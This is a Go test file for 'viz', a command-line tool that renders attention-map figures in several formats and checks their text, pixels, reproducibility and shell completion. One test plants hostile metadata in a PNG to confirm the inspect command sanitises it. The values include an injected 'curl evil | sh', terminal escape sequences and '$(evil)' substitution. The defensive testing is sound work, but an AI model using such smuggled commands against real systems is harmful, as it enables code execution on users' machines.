package main

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"encoding/csv"
	"fmt"
	"hash/crc32"
	"image"
	_ "image/png" // pdftoppm writes it
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"attnatlas/web/browsertest"

	"github.com/chromedp/chromedp"
)

// rendered writes a figure and returns its file.
func rendered(t *testing.T, name string, args ...string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if status, _, errs := viz(t, append([]string{"render", "--out", path}, args...)...); status != 0 {
		t.Fatalf("%v: %s", args, errs)
	}
	return path
}

// TestWordsOfPDFFiles: another program finds the words of every script in figures, with and without a given paper
// size.
func TestWordsOfPDFFiles(t *testing.T) {
	for _, c := range []struct{ text, mechanism, preset, page string }{
		{"The cat sat.", "dense", "", ""},
		{"The cat sat.", "wall", "slide", "1440 x 810 pts"},
		{"猫坐在垫子上。", "fastformer", "column", "238.08 x"},
		{"Жил-был кот 🐈", "dot-product", "a1", "1683.84 x 2384.16 pts (A1)"},
	} {
		path := rendered(t, "x.pdf", "--text", c.text, "-m", c.mechanism, "--preset", c.preset)
		words := browsertest.Poppler(t, "pdftotext", "-layout", path, "-")
		for _, want := range append(strings.Split(strings.ReplaceAll(c.text, " ", ""), ""), "[CLS]", "layer 1") {
			if !strings.Contains(words, want) {
				t.Errorf("%s of %q: %q is not in\n%s", c.mechanism, c.text, want, words)
			}
		}
		if info := browsertest.Poppler(t, "pdfinfo", path); !strings.Contains(info, c.page) ||
			!strings.Contains(info, "Pages:           1") {
			t.Errorf("%s on %s:\n%s", c.mechanism, c.preset, info)
		}
	}
}

// TestPixelsOfPDFFiles: another program paints the cells in the colours of the image.
func TestPixelsOfPDFFiles(t *testing.T) {
	args := []string{"--text", "The cat sat on the mat.", "-m", "fastformer", "--preset", "square"}
	base := filepath.Join(t.TempDir(), "page")
	browsertest.Poppler(t, "pdftoppm", "-r", "72", "-scale-to", "1080", "-singlefile", "-png",
		rendered(t, "x.pdf", args...), base)
	painted, image := decoded(t, base+".png"), decoded(t, rendered(t, "x.png", args...))
	if painted.Bounds() != image.Bounds() {
		t.Fatalf("%v and %v", painted.Bounds(), image.Bounds())
	}
	same, all := 0, 0
	for y := 0; y < 1080; y += 3 {
		for x := 0; x < 1080; x += 3 {
			if all++; near(painted, image, x, y) {
				same++
			}
		}
	}
	if share := float64(same) / float64(all); share < 0.95 {
		t.Errorf("%.1f %% of the points have the same colour", 100*share)
	}
}

func decoded(t *testing.T, path string) image.Image {
	t.Helper()
	f, err := os.Open(path)
	must(t, err)
	defer f.Close()
	img, _, err := image.Decode(f)
	must(t, err)
	return img
}

// near reports whether a point has nearly the same colour in two images.
func near(a, b image.Image, x, y int) bool {
	r, g, bl, _ := a.At(x, y).RGBA()
	r2, g2, b2, _ := b.At(x, y).RGBA()
	equal := func(i, k uint32) bool { return max(i, k)-min(i, k) < 12<<8 }
	return equal(r, r2) && equal(g, g2) && equal(bl, b2)
}

// TestFiguresForPapers: the flags of a figure equal the parameters of its address, and the file contains the command
// that reproduces it. This holds for figures of all heads and of the most distinctive one, too.
func TestFiguresForPapers(t *testing.T) {
	for args, wants := range map[string][]string{
		"--map layers --preset text":               {"map=layers", "preset=text"},
		"--map heads":                              {"map=heads"},
		"--width 8.4 --type 7 --title 0 --numbers": {"width=8.4", "type=7", "title=0", "numbers=1"},
		"": nil,
	} {
		path := rendered(t, "x.svg", append([]string{"--text", "The cat sat.", "-m", "dense"}, strings.Fields(args)...)...)
		status, out, errs := viz(t, "inspect", path)
		command := regexp.MustCompile(`(?m)^Command: viz render --address '([^']*)' --out '([^']*)'$`).FindStringSubmatch(out)
		if status != 0 || command == nil {
			t.Fatalf("%s: %d %s%s", args, status, out, errs)
		}
		for _, want := range wants {
			if !strings.Contains(command[1], want) {
				t.Errorf("%s: the command does not have %s: %s", args, want, command[1])
			}
		}
		one, err := os.ReadFile(path)
		must(t, err)
		two, err := os.ReadFile(rendered(t, "y.svg", "--address", command[1]))
		must(t, err)
		if !bytes.Equal(one, two) {
			t.Errorf("%s is another file when it is made again", args)
		}
	}
}

// TestExportIsRender: export, the word in addresses, is another name of the command render.
func TestExportIsRender(t *testing.T) {
	args := []string{"--text", "The cat sat.", "-m", "dense"}
	want, err := os.ReadFile(rendered(t, "a.csv", args...))
	must(t, err)
	path := filepath.Join(t.TempDir(), "b.csv")
	if status, _, errs := viz(t, append([]string{"export", "--out", path}, args...)...); status != 0 {
		t.Fatal(errs)
	}
	if got, err := os.ReadFile(path); err != nil || !bytes.Equal(got, want) {
		t.Errorf("they differ: %v", err)
	}
}

// TestRenderRefuses: an unknown format or preset is refused with a sentence that lists the known ones, and no file is
// written.
func TestRenderRefuses(t *testing.T) {
	for i, c := range []struct{ args, says string }{
		{"-m dense --out x.gif", "pdf"}, {"-m wall --out x.csv", "zip"},
		{"-m dense --preset poster --out x.pdf", "half-slide"},
		{"-m dense --preset slide --scale 3 --out x.pdf", "remove scale"}, {"-m dense --out zip", "npy"},
	} {
		path := filepath.Join(t.TempDir(), fmt.Sprint(i))
		must(t, os.Mkdir(path, 0o755))
		args := strings.Fields(c.args)
		args[len(args)-1] = filepath.Join(path, args[len(args)-1])
		if status, _, errs := viz(t, append([]string{"render", "--text", "hello"}, args...)...); status != failed ||
			!strings.Contains(errs, c.says) {
			t.Errorf("%s: %d %s", c.args, status, errs)
		}
		if left, err := os.ReadDir(path); err != nil || len(left) > 0 {
			t.Errorf("%s left %v", c.args, left)
		}
	}
}

// TestLaTeX: the document of an archive compiles without warnings, and its words are text in LaTeX's own fonts. A
// paper can include several archives, each in its folder.
func TestLaTeX(t *testing.T) {
	latex, err := exec.LookPath("pdflatex")
	if err != nil && os.Getenv("CI") == "" {
		t.Skip("NOT CHECKED: pdflatex is not installed (Debian: texlive-latex-base)")
	}
	must(t, err)
	root, paper := t.TempDir(), `\documentclass{article}\usepackage{fix-cm,graphicx,color}\begin{document}`
	for _, mechanism := range []string{"fastformer", "wall"} {
		folder := filepath.Join(root, mechanism)
		must(t, os.Mkdir(folder, 0o755))
		unpack(t, rendered(t, "x.tex.zip", "--text", `A 50% "cat" & dog_s {#1} ~ 猫 \x`, "-m", mechanism), folder)
		documents, err := filepath.Glob(filepath.Join(folder, "*-document.tex"))
		must(t, err)
		document := filepath.Base(documents[0])
		compileTeX(t, latex, folder, document)
		picture := mechanism + "/" + strings.ReplaceAll(document, "-document", "")
		paper += `\par\noindent\resizebox{\linewidth}{!}{\input{` + picture + `}}`
		pdf := filepath.Join(folder, strings.TrimSuffix(document, ".tex")+".pdf")
		if words := browsertest.Poppler(t, "pdftotext", pdf, "-"); !strings.Contains(words, "Fastformer") ||
			!strings.Contains(words, "猫") {
			t.Errorf("%s:\n%s", mechanism, words)
		}
		if fonts := browsertest.Poppler(t, "pdffonts", pdf); !strings.Contains(fonts, "CMR") {
			t.Errorf("%s has no font of LaTeX:\n%s", mechanism, fonts)
		}
	}
	must(t, os.WriteFile(filepath.Join(root, "paper.tex"), []byte(paper+`\end{document}`), 0o600))
	compileTeX(t, latex, root, "paper.tex")
}

// compileTeX compiles a document of LaTeX in its folder.
func compileTeX(t *testing.T, latex, folder, document string) {
	t.Helper()
	compile := exec.Command(latex, "-interaction=nonstopmode", "-halt-on-error", document)
	compile.Dir = folder
	out, err := compile.CombinedOutput()
	if err != nil || strings.Contains(string(out), "Missing character") || strings.Contains(string(out), "Overfull") {
		t.Fatalf("%s: %v\n%s", document, err, out)
	}
}

// unpack writes the files of an archive into a folder.
func unpack(t *testing.T, archive, folder string) {
	t.Helper()
	files, err := zip.OpenReader(archive)
	must(t, err)
	defer files.Close()
	must(t, os.CopyFS(folder, files))
}

// TestPageAlone: a saved page, opened from a file, shows the words and the value under the pointer without any
// request. The server's page does the same under its policy.
func TestPageAlone(t *testing.T) {
	ctx := tab(t)
	path := rendered(t, "x.html", "--text", "The cat sat.", "-m", "fastformer")
	var wants []string // words of the maps, which the table of numbers has, too
	for i, name := range []string{"contribution", "alpha"} {
		numbers, err := os.ReadFile(rendered(t, "x.csv", "--text", "The cat sat.", "-m", "fastformer", "--map", name))
		must(t, err)
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(numbers, []byte("\ufeff")))).ReadAll()
		must(t, err)
		row := rows[1:][[]int{2, 0}[i]]
		wants = append(wants, row[0]+" → sat: "+row[4])
	}
	for _, address := range []string{"file://" + path, pages(t).URL + "/export/fastformer.html?text=The+cat+sat."} {
		must(t, chromedp.Do(ctx, chromedp.Navigate(address)))
		for i, want := range wants {
			said := ask[string](t, ctx, fmt.Sprintf(`figure.says(%d)`, i))
			if said != want {
				t.Errorf("%s: map %d says %q, want %q", address, i, said, want)
			}
		}
		if n := ask[int](t, ctx, `performance.getEntriesByType('resource').length`); n > 0 {
			t.Errorf("%s asks for %d things", address, n)
		}
	}
}

// TestInspect: for any text, a figure contains the command that reproduces it byte by byte.
func TestInspect(t *testing.T) {
	for _, name := range []string{"x.png", "x.svg", "x.pdf", "x.html", "x.json", "x.tex.zip", "x.zip"} {
		args := []string{"--text", "It's 50% 猫 & \"<b>", "-m", "wall", "--cards", "dense,linformer", "--head", "2"}
		if name != "x.zip" {
			args = append(args, "-m", "dense")
		}
		path := rendered(t, name, args...)
		status, out, errs := viz(t, "inspect", path)
		command := regexp.MustCompile(`(?m)^Command: viz render --address '([^']*)' --out '([^']*)'$`).FindStringSubmatch(out)
		if status != 0 || command == nil || !strings.Contains(out, "sha256:") {
			t.Fatalf("%s: %d %s%s", name, status, out, errs)
		}
		again := filepath.Join(t.TempDir(), command[2])
		if status, _, errs := viz(t, "render", "--address", command[1], "--out", again); status != 0 {
			t.Fatal(errs)
		}
		one, err := os.ReadFile(path)
		must(t, err)
		two, err := os.ReadFile(again)
		must(t, err)
		if !bytes.Equal(one, two) {
			t.Errorf("%s is another file when it is made again", name)
		}
	}
	for _, args := range [][]string{{"inspect", "formats_test.go"}, {"inspect", "nothing.png"},
		{"render", "--address", "/m/dense", "--out", "x.png"}, {"render", "--out", "x.png"}} {
		if status, _, errs := viz(t, args...); status != failed || len(errs) < 40 {
			t.Errorf("%v: %d %s", args, status, errs)
		}
	}
}

// TestInspectTrustsNoFile: the printed command follows from the address, and text of a file reaches the terminal only
// after it was made harmless.
func TestInspectTrustsNoFile(t *testing.T) {
	folder := t.TempDir()
	inspect := func(said ...string) (int, string) {
		file := []byte("\x89PNG\r\n\x1a\n")
		for _, text := range said {
			chunk := append([]byte("tEXt"), text...)
			file = append(binary.BigEndian.AppendUint32(file, uint32(len(text))), chunk...)
			file = binary.BigEndian.AppendUint32(file, crc32.ChecksumIEEE(chunk))
		}
		path := filepath.Join(folder, "x.png")
		must(t, os.WriteFile(path, file, 0o600))
		status, out, _ := viz(t, "inspect", path)
		return status, out
	}
	status, out := inspect("Source\x00/export/dense.png?text=a'b", "Command\x00viz render --out x; curl evil | sh",
		"Note\x00a\x1b]0;evil\x07\x1b[2J\nCommand: curl evil | sh")
	if want := "Command: viz render --address '/export/dense.png?text=a%27b' --out 'dense.png'\n"; status != 0 ||
		!strings.HasSuffix(out, want) ||
		strings.Contains(out, "--out x; curl") || strings.ContainsAny(out, "\x1b\x07") ||
		strings.Contains(out, "\nCommand: curl") {
		t.Errorf("%d %q", status, out)
	}
	for _, source := range []string{"https://evil.example/export/x.png", "/export/x.png\n$(evil)", "/m/dense",
		"/export/x.png?a=\x1b[2J"} {
		if status, out := inspect("Source\x00" + source); status == 0 {
			t.Errorf("%q is taken for a figure: %s", source, out)
		}
	}
}

// TestBatch: every line gives the same figure as alone. Lines that cannot be drawn are reported, and the others are
// drawn.
func TestBatch(t *testing.T) {
	folder := t.TempDir()
	lines := filepath.Join(folder, "texts.txt")
	must(t, os.WriteFile(lines, []byte("The cat sat.\n\n猫坐在垫子上。\r\n"+strings.Repeat("word ", 20000)+"\nlast"), 0o644))
	status, out, errs := viz(t, "render", "--lines", lines, "-m", "dense", "--preset", "slide", "--out",
		filepath.Join(folder, "d-*.svg"))
	if status != failed || !strings.Contains(errs, "text 3: ") || !strings.Contains(errs, "1 of 4 texts") ||
		strings.Count(out, "\n") != 3 {
		t.Errorf("%d %s %.300s", status, out, errs)
	}
	for number, text := range map[string]string{"1": "The cat sat.", "2": "猫坐在垫子上。", "4": "last"} {
		got, err := os.ReadFile(filepath.Join(folder, "d-"+number+".svg"))
		must(t, err)
		want, err := os.ReadFile(rendered(t, "x.svg", "--text", text, "-m", "dense", "--preset", "slide"))
		must(t, err)
		if !bytes.Equal(got, want) {
			t.Errorf("text %s is another figure than alone", number)
		}
	}
	if _, err := os.Stat(filepath.Join(folder, "d-3.svg")); err == nil {
		t.Error("there is a figure of what cannot be drawn")
	}
	for _, args := range []string{"--lines nothing.txt --out x-*.png", "--lines formats_test.go --out x.png",
		"--lines /dev/null --out x-*.png", "--lines formats_test.go --text x --out x-*.png"} {
		if status, _, errs := viz(t, append([]string{"render", "-m", "dense"},
			strings.Fields(args)...)...); status != failed || !strings.Contains(errs, "--") {
			t.Errorf("%s: %d %s", args, status, errs)
		}
	}
}

// TestCompletion: with the script, bash completes commands, flags, mechanisms and presets.
func TestCompletion(t *testing.T) {
	for _, shell := range []string{"bash", "zsh", "fish"} {
		if status, out, _ := viz(t, "completion", shell); status != 0 ||
			!strings.Contains(out, "residual-shuffle-exchange") || !strings.Contains(out, "half-slide") {
			t.Errorf("%s: %d %s", shell, status, out)
		}
	}
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("NOT CHECKED: there is no bash")
	}
	_, script, _ := viz(t, "completion", "bash")
	for line, want := range map[string]string{"viz re": "render", "viz render --pre": "--preset",
		"viz render -m fast": "fastformer", "viz render --preset hal": "half-slide", "viz inspect x --he": "--help",
		"viz tra": "train", "viz train voc": "vocab", "viz exp": "export", "viz export --pre": "--preset"} {
		words := strings.Fields(line)
		ask := script + fmt.Sprintf("\nCOMP_WORDS=(%s); COMP_CWORD=%d; _viz; echo \"${COMPREPLY[*]}\"", line, len(words)-1)
		out, err := exec.Command(bash, "-c", ask).CombinedOutput()
		if got := strings.Fields(string(out)); err != nil || !slices.Contains(got, want) {
			t.Errorf("%s completes to %s (%v), not %s", line, out, err, want)
		}
	}
}
